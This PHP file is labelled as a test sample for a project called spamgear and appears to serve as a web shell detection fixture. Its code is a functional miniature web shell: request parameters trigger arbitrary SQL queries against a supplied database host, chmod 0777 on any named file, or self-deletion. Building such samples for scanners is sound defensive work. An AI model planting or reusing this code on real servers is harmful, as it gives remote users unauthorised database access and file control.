<?php
// spamgear test sample (written for the project): a small tool whose
// request-driven functions are a database client, chmod and a button that
// deletes the script itself (the "remove shell" of web shells).
$act = isset($_GET['act']) ? $_GET['act'] : '';
if ($act === 'sql') {
    $db = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']);
    $res = mysqli_query($db, $_POST['q']);
    while ($row = mysqli_fetch_row($res)) echo implode("\t", $row), "\n";
}
if ($act === 'mode') {
    chmod($_POST['file'], 0777);
}
if ($act === 'bye') {
    unlink(__FILE__);
    echo "removed";
}
